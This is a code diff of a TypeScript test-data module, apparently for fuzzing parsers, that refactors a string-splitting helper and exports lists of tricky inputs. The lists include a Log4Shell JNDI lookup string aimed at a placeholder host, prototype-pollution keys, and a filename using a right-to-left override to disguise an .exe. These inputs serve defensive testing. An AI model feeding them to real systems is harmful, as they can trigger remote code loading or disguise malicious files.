@@ -5,7 +5,11 @@ export type Draw = (random: Random) => string;
 
 /** Each value as it stands in a message: JSON, separated by bars. */
 export function listed(text: TemplateStringsArray): NonEmpty<string> {
-  const [first = '', ...others] = (text.raw[0] ?? '').trim().split(/\s+\|\s+/);
+  return split((text.raw[0] ?? '').trim());
+}
+
+export function split(text: string): NonEmpty<string> {
+  const [first = '', ...others] = text.split(/\s+\|\s+/);
   return [first, ...others];
 }
 
@@ -18,7 +22,7 @@ export function quoted(text: string): string {
 export const nothings = listed`null | {} | [] | true | false | "" | "-" | "null" | " " | " - " | "NULL" | "\t" | "\u00a0" | "\u3000null\ufeff"`;
 
 /** Texts that have a meaning somewhere on the way: for JavaScript, JSON, a URL, a path, a query, a terminal. */
-const words: NonEmpty<string> = [
+export const words: NonEmpty<string> = [
   quoted('${jndi:ldap://a.example/x}'),
   ...listed`
   "-." | ". ." | "..." | "-.a" | "a.-" | "null.null" | "a@" | "@" | "-@-" | "<unknown>" | "__proto__" | "constructor" | "toString"
@@ -30,7 +34,7 @@ const words: NonEmpty<string> = [
 ];
 
 /** Strings that not every reader takes: halves of a pair, NUL, needless escapes, marks that turn the writing around. */
-const strange: NonEmpty<string> = [
+export const strange: NonEmpty<string> = [
   ...listed`
   "\ud800" | "\udfff" | "\udc00\ud800" | "a\ud83d.example" | "\ud83d\ude00" | "😀" | "\u0000" | "a\u0000b" | "\n\r\t\b\f\/"
   | "line\nbreak" | "\u2028\u2029" | "\ufeff" | "\ufeff-\ufeff" | "\u202egnp.exe" | "\u200b" | "ée\u0301" | "\ufffd" | "\uffff"
